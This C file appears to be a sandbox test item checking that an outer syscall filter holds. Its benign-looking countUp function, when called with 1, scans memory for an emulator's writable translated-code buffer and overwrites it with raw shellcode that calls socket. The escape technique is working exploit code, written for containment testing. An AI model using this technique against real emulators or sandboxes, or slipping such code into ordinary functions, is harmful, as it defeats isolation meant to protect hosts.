// SPDX-License-Identifier: MIT
/* ITEM: 75 beyond
 * ARGS: 1
 * EXPECT[1]: end=ended cause=forbidden_syscall:socket or end=answered count=right
 * WHY: the emulator's buffer of translated code is writable from inside, so that its program can run any code of the
 * CPU's: then it is what every solution is without the emulator, in the same root, under the same filter and limits.
 * (Answered: where the buffer was not found; the machine is another.) */
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>

enum { PAGE = 4096, STEP = 1 << 26 };
static sigjmp_buf back;

static void fault(int number)
{
    siglongjmp(back, number);
}

static int readable(uintptr_t at)
{
    if (sigsetjmp(back, 1))
        return 0;
    return *(volatile char *)at, 1;
}

/* socket(1, 1, 0), then exit_group(its answer); no longer than what enters translated code, for what leaves it follows.
 */
static const unsigned char code[] = { 0x6a, 41,   0x58, 0x6a, 1,    0x5f, 0x6a, 1,    0x5e,
                                      0x31, 0xd2, 0x0f, 0x05, 0x97, 0xb0, 231,  0x0f, 0x05 };
/* How the buffer begins: the registers are saved before translated code runs. */
static const unsigned char begin[] = { 0x55, 0x53, 0x41, 0x54 };

static void overwrite(volatile unsigned char *at)
{
    if (sigsetjmp(back, 1))
        return;
    for (size_t i = 0; i < sizeof(begin); i++)
        if (at[i] != begin[i])
            return;
    /* At once: between two blocks of code it is executed as far as it is written. */
    uint64_t words[3];
    memcpy(words, (const void *)at, sizeof(words));
    memcpy(words, code, sizeof(code));
    volatile uint64_t *to = (volatile uint64_t *)at;
    to[0] = words[0], to[1] = words[1], to[2] = words[2];
    getppid(); /* out of the translated code, and in again at its beginning */
}

static void attack(void)
{
    struct sigaction action = { .sa_handler = fault };
    sigaction(SIGSEGV, &action, NULL);
    sigaction(SIGBUS, &action, NULL);
    for (uintptr_t at = 0x7fffe0000000; at > 0x7c0000000000; at -= STEP) {
        if (!readable(at) || readable(at - STEP))
            continue;
        uintptr_t first = at;
        while (first > at - STEP && readable(first - PAGE))
            first -= PAGE;
        overwrite((volatile unsigned char *)first);
    }
}

int countUp(int n)
{
    volatile int steps = 0;
    if (n == 1)
        attack();
    for (int i = 0; n && i < 100000; i++)
        steps = steps + 1;
    return n;
}
